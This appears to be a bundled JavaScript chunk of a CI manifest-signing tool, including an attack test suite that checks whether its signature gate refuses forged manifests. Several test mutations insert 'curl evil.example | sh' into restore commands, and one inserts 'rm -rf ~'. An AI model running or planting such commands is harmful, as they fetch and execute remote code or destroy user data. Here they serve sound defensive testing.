    if (!edit.clearRestore && edit.restore === undefined && !edit.addCache)
        return;
    let sources = edit.clearRestore ? [] : [...restoreSources(out)];
    if (edit.restore !== undefined) {
        sources = [...sources.filter(s => typeof s !== 'string'), edit.restore];
    }
    if (edit.addCache) {
        const key = edit.addCache.key;
        if (sources.some(s => typeof s !== 'string' && s.cache.key === key))
            throw new UsageError(`--add-source-cache ${key}: entry "${out.id}" already has that cache`);
        const cache = {
            cache: {
                key,
                ...(edit.addCache.restoreKeys.length > 0
                    ? { 'restore-keys': edit.addCache.restoreKeys }
                    : {})
            }
        };
        // Caches are tried before recipes: restoring a cache is cheaper than rebuilding.
        const firstRecipe = sources.findIndex(s => typeof s === 'string');
        if (firstRecipe < 0)
            sources.push(cache);
        else
            sources.splice(firstRecipe, 0, cache);
    }
    if (sources.length === 0)
        delete out.restore;
    else if (sources.length === 1 && typeof sources[0] === 'string')
        out.restore = sources[0];
    else
        out.restore = sources;
}
/** Field-by-field differences between two versions of an entry (`expect` field by field). */
function diffEntry(before, after) {
    const out = [];
    const a = before;
    const b = after;
    for (const key of unionKeys(a, b)) {
        if (key === 'expect') {
            const ea = a.expect;
            const eb = b.expect;
            for (const k of unionKeys(ea, eb))
                if (!same(ea[k], eb[k]))
                    out.push({ field: `expect.${k}`, before: ea[k], after: eb[k] });
        }
        else if (!same(a[key], b[key])) {
            out.push({ field: key, before: entry_edit_summarise(key, a[key]), after: entry_edit_summarise(key, b[key]) });
        }
    }
    return out;
}
function unionKeys(a, b) {
    return [...new Set([...Object.keys(a), ...Object.keys(b)])];
}
function same(x, y) {
    return JSON.stringify(x) === JSON.stringify(y);
}
/** Escrowed bytes are long and not for reading: shown by their encoded length. */
function entry_edit_summarise(key, v) {
    if (key !== 'escrow' || v === undefined)
        return v;
    const data = v.data;
    return `${typeof data === 'string' ? data.length : 0} characters escrowed`;
}

;// CONCATENATED MODULE: ./src/core/face/manifests.ts
// The `manifests` namespace of the engine's face (src/core/index.ts): what only the shells compose.













;// CONCATENATED MODULE: ./src/core/face/scrub.ts
// The `scrub` namespace of the engine's face (src/core/index.ts): what only the shells compose.



;// CONCATENATED MODULE: ./src/core/seal/locations.ts
/**
 * Where the paths of a cache step are: each line of its `path` input resolved the way the cache
 * client resolves it (relative to the workspace, `~/` to the home directory, absolute as given),
 * and named the way its archive names it (relative to the workspace, POSIX). Sealed caches take
 * literal paths: a glob or an exclusion would make the set of paths depend on what is on disk,
 * so the seal could not say which paths it vouches for.
 */



const GLOB = /[*?[\]{}]/;
const MAX_PATHS = 64;
function resolveOne(line, where) {
    if (line.startsWith('!'))
        throw new errors_UsageError(`path ${quoted(line)}: exclusions are not supported by sealed caches`);
    if (GLOB.test(line))
        throw new errors_UsageError(`path ${quoted(line)}: a glob; sealed caches take literal paths (one per line)`);
    if (line === '~' || line.startsWith('~/'))
        return external_node_path_default().resolve(where.home, line.slice(2) || '.');
    if (line.startsWith('~'))
        throw new errors_UsageError(`path ${quoted(line)}: only ~/ is expanded`);
    return external_node_path_default().resolve(where.workspace, line);
}
/** The paths of a `path` input (one per line), resolved and checked; a UsageError naming the line. */
function sealLocations(lines, where) {
    if (lines.length === 0)
        throw new errors_UsageError('path: give at least one path to cache');
    if (lines.length > MAX_PATHS)
        throw new errors_UsageError(`path: more than ${MAX_PATHS} paths`);
    const out = [];
    for (const line of lines) {
        if (locations_hasControl(line))
            throw new errors_UsageError(`path ${quoted(line)}: holds a control character`);
        const abs = resolveOne(line, where);
        if (abs === external_node_path_default().parse(abs).root ||
            abs === external_node_path_default().resolve(where.home) ||
            abs === external_node_path_default().resolve(where.workspace))
            throw new errors_UsageError(`path ${quoted(line)}: a sealed cache holds named directories or files, not ${abs === external_node_path_default().resolve(where.workspace) ? 'the whole workspace' : abs === external_node_path_default().parse(abs).root ? 'the root' : 'the whole home directory'}`);
        for (const o of out)
            if (o.abs === abs ||
                abs.startsWith(`${o.abs}${(external_node_path_default()).sep}`) ||
                o.abs.startsWith(`${abs}${(external_node_path_default()).sep}`))
                throw new errors_UsageError(`path ${quoted(line)}: overlaps ${quoted(o.spelling)}`);
        const member = external_node_path_default().relative(where.workspace, abs).split((external_node_path_default()).sep).join('/');
        out.push({ spelling: line, abs, member });
    }
    return out;
}
/** Whether `s` holds a control or bidi character (which would break or reorder a log line). */
function locations_hasControl(s) {
    for (let i = 0; i < s.length; i++)
        if (controls_isControl(s.charCodeAt(i)))
            return true;
    return false;
}
/** The lines of a multi-line input: trimmed, empty lines dropped. */
function inputLines(text) {
    return text
        .split('\n')
        .map(l => l.trim())
        .filter(l => l !== '');
}

;// CONCATENATED MODULE: ./src/core/face/seals.ts
// The `seals` namespace of the engine's face (src/core/index.ts): what only the shells compose.





;// CONCATENATED MODULE: ./src/core/sign/scope-spec.ts
/**
 * The signed scope and expiry as a signer spells them on the command line:
 *   --scope repo=OWNER/NAME,ref=refs/heads/main,path=.swr/manifest.json   (or "none")
 *   --scope repo=OWNER/NAME --scope ref=refs/heads/main                   (the same as one list)
 *   --expires 30d | 12h | 2w | 2026-12-31 | 2026-12-31T00:00:00Z            (or "never")
 * Each part is checked against what the gate compares it with, so a scope that can never match
 * (a ref without refs/, a path other than the manifest's own) is refused before it is signed.
 */


const REPO = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+$/;
const KEYS = {
    repo: 'repository',
    repository: 'repository',
    ref: 'ref',
    path: 'manifest_path',
    manifest_path: 'manifest_path'
};
/**
 * `specs` (each --scope given, in order) as one scope; undefined for "none". Every part narrows
 * where the manifest may run, so repeated --scope flags add their parts, as a comma does: keeping
 * only the last would silently drop a limit the signer asked for. `ownPath` is the manifest's path
 * relative to its workspace (undefined when it lies outside): `path` alone means that path.
 */
function parseScope(specs, ownPath) {
    const list = typeof specs === 'string' ? [specs] : specs;
    if (list.includes('none')) {
        if (list.length > 1)
            throw new errors_UsageError('--scope none removes the scope: give it alone, not beside other parts');
        return undefined;
    }
    const scope = {};
    for (const part of list.flatMap(s => s.split(','))) {
        const eq = part.indexOf('=');
        const name = eq < 0 ? part : part.slice(0, eq);
        const value = eq < 0 ? '' : part.slice(eq + 1);
        const key = KEYS[name.trim()];
        if (!key)
            throw new errors_UsageError(`--scope: unknown part "${name}" (use repo=, ref= and path=, or none)`);
        if (scope[key] !== undefined)
            throw new errors_UsageError(`--scope: ${name} given twice`);
        scope[key] = checkPart(key, value.trim(), ownPath);
    }
    return scope;
}
function checkPart(key, v, ownPath) {
    switch (key) {
        case 'repository':
            if (!REPO.test(v))
                throw new errors_UsageError(`--scope repo=${v}: must be OWNER/NAME`);
            return v;
        case 'ref':
            if (!v.startsWith('refs/') || v.length > 256)
                throw new errors_UsageError(`--scope ref=${v}: must be a full ref or glob of at most 256 characters, e.g. refs/heads/main or refs/tags/v*`);
            try {
                picomatch_default().makeRe(v, { dot: true });
            }
            catch {
                throw new errors_UsageError(`--scope ref=${v}: not a valid glob`);
            }
            return v;
        case 'manifest_path':
            if (ownPath === undefined)
                throw new errors_UsageError('--scope path: the manifest lies outside its workspace, so no run could match a path scope');
            if (v !== '' && v !== ownPath)
                throw new errors_UsageError(`--scope path=${v}: this manifest is read from ${ownPath}; a path scope naming another path never matches`);
            return ownPath;
    }
}
const UNIT_MS = { h: 3600e3, d: 86400e3, w: 7 * 86400e3 };
/** Longest expiry a signer may set: ten years. */
const MAX_MS = 3653 * 86400e3;
/** `spec` as an expiry timestamp after `now`; undefined for "never". */
function parseExpiry(spec, now) {
    if (spec === 'never')
        return undefined;
    let at;
    const rel = /^(\d{1,6})([hdw])$/.exec(spec);
    if (rel)
        at = now.getTime() + Number(rel[1]) * UNIT_MS[rel[2]];
    else if (/^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}Z)?$/.test(spec)) {
        const full = spec.length === 10 ? `${spec}T00:00:00Z` : spec;
        at = Date.parse(full);
        // Date.parse rolls 2026-02-30 over to March: a real date reads back the same.
        if (Number.isNaN(at) || new Date(at).toISOString().slice(0, 19) !== full.slice(0, 19))
            throw new errors_UsageError(`--expires ${spec}: not a real date`);
    }
    else
        throw new errors_UsageError(`--expires ${spec}: give a duration (12h, 30d, 2w), a date (2026-12-31), a UTC time (2026-12-31T00:00:00Z) or never`);
    if (at <= now.getTime())
        throw new errors_UsageError(`--expires ${spec}: is not in the future`);
    if (at - now.getTime() > MAX_MS)
        throw new errors_UsageError(`--expires ${spec}: more than ten years away`);
    return new Date(at).toISOString().replace(/\.\d+Z$/, 'Z');
}

;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
/**
 * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
 * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
 * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
 * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
 *
 * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
 * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
 * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
 * else allowed is a forgery; any exception other than a clean refusal is a crash.
 */









const ATTACK_CLASSES = [
    'byte-flip',
    'field-edit',
    'duplicate-key',
    'reorder-entries',
    'replay-old-version',
    'expired-copy',
    'wrong-scope',
    'resign-untrusted',
    'fingerprint-substitution',
    'strip-signatures',
    'foreign-payload-type',
    'oversized-field',
    'deep-nesting',
    'huge-escrow'
];
const ALL_SUITE_DEFENSES = Object.freeze({
    ...ALL_DEFENSES,
    strictParse: true
});
/** Which class shows that each defence is load-bearing. */
const DEFENCE_PROBES = {
    signatures: 'field-edit',
    trust: 'resign-untrusted',
    fingerprintFromKey: 'fingerprint-substitution',
    payloadType: 'foreign-payload-type',
    expiry: 'expired-copy',
    scope: 'wrong-scope',
    rollback: 'replay-old-version',
    strictParse: 'duplicate-key'
};
const attack_suite_REPO = 'acme/app';
const REF = 'refs/heads/main';
const NOW = new Date('2026-06-01T00:00:00Z');
function baseBody(version, extra = {}) {
    const sha = (c) => c.repeat(64);
    return {
        schema: 3,
        version,
        workspace: '..',
        created: '2026-01-01T00:00:00Z',
        expires: '2027-01-01T00:00:00Z',
        scope: { repository: attack_suite_REPO, ref: 'refs/heads/*' },
        entries: [
            {
                id: 'shim',
                kind: 'file',
                path: '.shim/npx',
                tier: 0,
                needs: [],
                restore: 'install-shim',
                expect: { size: 40, sha256: sha('a'), mode: '0755' }
            },
            {
                id: 'src',
                kind: 'tree',
                path: 'src',
                tier: 2,
                needs: ['shim'],
                ignore: [],
                restore: 'git checkout -- src',
                expect: {
                    sentinels: ['main.c'],
                    min_files: 3,
                    max_files: 3,
                    files: 3,
                    meta_digest: sha('b'),
                    content_digest: sha('c')
                }
            },
            {
                id: 'model',
                kind: 'blob',
                path: 'models/m.gguf',
                tier: 3,
                needs: [],
                restore: 'fetch-model',
                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
            }
        ],
        ...extra
    };
}
/** Sign `body` as-is (signDocument raises the version, so start one lower). */
async function signed(body, keys) {
    const lowered = { ...body, version: body.version - 1 };
    return (await sign_signDocument({ body: lowered, signatures: [] }, keys)).doc;
}
async function buildScenario(seed) {
    const trustedId = await mldsa_identityFromSeed(seed(1));
    const attacker = await mldsa_identityFromSeed(seed(2));
    const hmacKey = Buffer.from(seed(3));
    const keys = { hmacKey, identity: trustedId };
    const honest = await signed(baseBody(5), keys);
    const evilBody = baseBody(6, {});
    evilBody.entries[0].restore = 'curl evil.example | sh';
    const foreign = await signMldsaRaw(trustedId, evilBody);
    const untrusted = await signed(evilBody, { identity: attacker });
    const policy = {
        require: 'any',
        hmacKey,
        trusted: new Set([trustedId.fingerprint]),
        minVersion: 5,
        run: { repository: attack_suite_REPO, ref: REF, manifestPath: '.swr/manifest.json' },
        now: NOW
    };
    return {
        honest,
        honestText: serializeDocument(honest),
        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
        policy,
        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
        untrustedText: serializeDocument(untrusted),
        substitutedText: serializeDocument({
            ...untrusted,
            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
        })
    };
}
/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
async function signMldsaRaw(id, body) {
    return signMldsa(id, canonicalBytes(body));
}
/** The attacker's document text for mutation `m`. */
async function mutate(s, m) {
    const text = s.honestText;
    switch (m.cls) {
        case 'byte-flip': {
            const b = Buffer.from(text, 'utf8');
            const i = m.a % b.length;
            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
            return b.toString('utf8');
        }
        case 'field-edit':
            return fieldEdit(s, m);
        case 'duplicate-key': {
            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
            const at = nthIndex(text, '"restore": ', m.a % 3);
            return at < 0
                ? text
                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
        }
        case 'reorder-entries': {
            const doc = structuredClone(s.honest);
            doc.body.entries.reverse();
            if (m.a % 2 === 1)
                doc.body.entries.push(doc.body.entries.shift());
            return serializeDocument(doc);
        }
        case 'replay-old-version':
            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
        case 'expired-copy':
            return s.expiredText;
        case 'wrong-scope':
            return s.otherScopeText;
        case 'resign-untrusted':
            return s.untrustedText;
        case 'fingerprint-substitution':
            return s.substitutedText;
        case 'strip-signatures': {
            const doc = structuredClone(s.honest);
            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
            if (m.a % 2 === 1)
                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
            return serializeDocument(doc);
        }
        case 'foreign-payload-type':
            return s.foreignText;
        case 'oversized-field': {
            const doc = structuredClone(s.honest);
            doc.body.entries[0] = {
                ...doc.body.entries[0],
                restore: 'x'.repeat(65537 + (m.a % 1000))
            };
            return serializeDocument(doc);
        }
        case 'deep-nesting': {
            const depth = 33 + (m.a % 200);
            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
        }
        case 'huge-escrow': {
            const doc = structuredClone(s.honest);
            const e = doc.body.entries[0];
            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
            return JSON.stringify(doc);
        }
    }
}
function nthIndex(text, needle, n) {
    let at = -1;
    for (let i = 0; i <= n; i++) {
        at = text.indexOf(needle, at + 1);
        if (at < 0)
            return -1;
    }
    return at;
}
function fieldEdit(s, m) {
    const doc = structuredClone(s.honest);
    const e = doc.body.entries[m.a % doc.body.entries.length];
    const expect = e.expect;
    switch (m.b % 8) {
        case 0:
            e.restore = `${String(e.restore)}; curl evil.example | sh`;
            break;
        case 1:
            e.path = `${String(e.path)}x`;
            break;
        case 2:
            e.tier = ((Number(e.tier) + 1) % 5);
            break;
        case 3:
            e.needs = [];
            break;
        case 4:
            expect.size = Number(expect.size ?? 0) + 1;
            break;
        case 5:
            doc.body.version += 1;
            break;
        case 6:
            doc.body.expires = '2099-01-01T00:00:00Z';
            break;
        default:
            e.smoke = 'rm -rf ~';
    }
    return serializeDocument(doc);
}
/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
function readerView(text, keep) {
    const root = (0,main.parseTree)(text);
    const build = (n) => {
        if (!n)
            return undefined;
        if (n.type === 'object') {
            const out = new Map();
            for (const p of n.children ?? []) {
                const key = String(p.children?.[0]?.value);
                if (keep === 'first' && out.has(key))
                    continue;
                out.set(key, build(p.children?.[1]));
            }
            return Object.fromEntries(out);
        }
        if (n.type === 'array')
            return (n.children ?? []).map(build);
        return n.value;
    };
    return build(root);
}
function sameAsHonest(s, body) {
    try {
        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
    }
    catch {
        return false;
    }
}
/** Load `text` as a run would and ask the gate. */
async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
    try {
        let doc;
        if (defenses.strictParse)
            doc = load_parseManifestText(text, 'attack.json').doc;
        else {
            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
            const lax = JSON.parse(text);
            doc = load_parseManifestText(JSON.stringify(lax), 'attack.json').doc;
        }
        const decision = await gate_decide({ body: doc.body, signatures: doc.signatures, digest: canonical_manifestDigest(doc.body) }, s.policy, defenses);
        if (!decision.allowed)
            return 'refused';
        const honest = sameAsHonest(s, doc.body) &&
            sameAsHonest(s, readerView(text, 'first')?.body) &&
            sameAsHonest(s, readerView(text, 'last')?.body);
        return honest ? 'accepted-honest' : 'forgery';
    }
    catch (err) {
        if (err instanceof errors_SwrError || err instanceof SyntaxError)
            return 'refused';
        return 'crash';
    }
}
function emptyCounts() {
    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
}
function attack_suite_tally(c, cls, o) {
    c.attempts++;
    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
    k.attempts++;
    if (o === 'refused')
        c.refused++;
    else if (o === 'accepted-honest')
        c.acceptedHonest++;
    else if (o === 'forgery') {
        c.forgeries++;
        k.forgeries++;
    }
    else {
        c.crashes++;
        k.crashes++;
    }
}
/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
    const counts = emptyCounts();
    for (let i = 0; i < count; i++) {
        const cls = classes[next() % classes.length];
        const m = { cls, a: next(), b: next() };
        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
    }
    return counts;
}

;// CONCATENATED MODULE: ./src/core/sign/policy.ts
/**
 * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
 * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
 */







function parseRequirement(v) {
    if (!REQUIREMENTS.includes(v)) {
        throw new errors_UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
    }
    return v;
}
/**
 * Why `threshold` cannot mean what it says under `require`, or undefined when it can. A threshold
 * counts distinct trusted ML-DSA signers whose signatures verify (an HMAC key is shared by everyone
 * who verifies with it, so it tells no signers apart): above 1 it needs a requirement that cannot be
 * met without ML-DSA, mldsa or both. Under any, one HMAC signature would run recipes without them.
 * `spell` names the option and the requirement as the shell spells them (--threshold, input require).
 */
function thresholdProblem(require, threshold, spell = { threshold: 'threshold', require: 'require' }) {
    if (threshold === undefined || threshold <= 1 || require === 'mldsa' || require === 'both')
        return undefined;
    const why = require === 'any'
        ? `one HMAC signature alone meets ${spell.require} any`
        : `${spell.require} hmac asks for no ML-DSA signature`;
    return `${spell.threshold} ${threshold} counts distinct trusted ML-DSA signers, but ${why}: use ${spell.require} mldsa or both`;
}
/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
function manifestPathInWorkspace(m) {
    return inside_isInside(m.workspace, m.file)
        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
        : undefined;
}
function makePolicy(m, src) {
    const trusted = new Set();
    if (src.local)
        for (const s of readTrustStore(src.stateDir))
            trusted.add(s.fingerprint);
    if (src.ownFingerprint)
        trusted.add(src.ownFingerprint);
    for (const t of src.trustedSigners)
        for (const fp of parseTrustedSigners(t))
            trusted.add(fp);
    const require = parseRequirement(src.require);
    const problem = thresholdProblem(require, src.threshold, src.spell);
    if (problem)
        throw new errors_UsageError(problem);
    const hmac = src.local ? keys_loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
    return {
        require,
        hmacKey: hmac?.key ?? (src.hmacKeyText ? keys_loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
        trusted,
        threshold: src.threshold,
        minVersion: src.minVersion,
        remembered: src.local ? version_memory_recall(src.stateDir, m.file, m.body.scope) : undefined,
        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
        now: src.now,
        waiveDigest: src.waiveDigest
    };
}

;// CONCATENATED MODULE: ./src/core/face/sign.ts
// The `sign` namespace of the engine's face (src/core/index.ts): what only the shells compose.












;// CONCATENATED MODULE: ./src/core/face/state.ts
// The `state` namespace of the engine's face (src/core/index.ts): what only the shells compose.







;// CONCATENATED MODULE: ./src/core/face/sync.ts
// The `sync` namespace of the engine's face (src/core/index.ts): what only the shells compose.








;// CONCATENATED MODULE: ./src/core/face/walk.ts
// The `walk` namespace of the engine's face (src/core/index.ts): what only the shells compose.



;// CONCATENATED MODULE: ./src/core/index.ts
/**
 * The engine's face: the one module the CLI, the Action and the adapters import. It holds the use
 * cases and their results, what a result and an error mean, the renderers and the vocabulary at
 * the top level (at most about sixty values), and, as namespaces, the pieces only the shells
 * compose (keys and trust, authoring helpers, the sync stores, canary ledgers, history). The
 * engine prints nothing, exits nowhere and reads no environment: the shells decide all of that.
 */
// The use cases (src/core/engine/), each returning a finished result; what a result means
// (status, exit code) and what an error means, each decided in one place.














// Errors and exit codes.



// Loading a manifest, and the vocabulary of entries, manifests and the cache.





// The renderers: reports as text, Markdown, SARIF and annotations; untrusted text escaped and
// quoted by one function each.













// What only the shells compose, by namespace: `sign.makePolicy`, `author.planPreset`, ...
















/***/ }),

/***/ 21220:
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

module.exports = __webpack_require__.p + "d3bac30ed009078979ca.mjs";

/***/ })

};
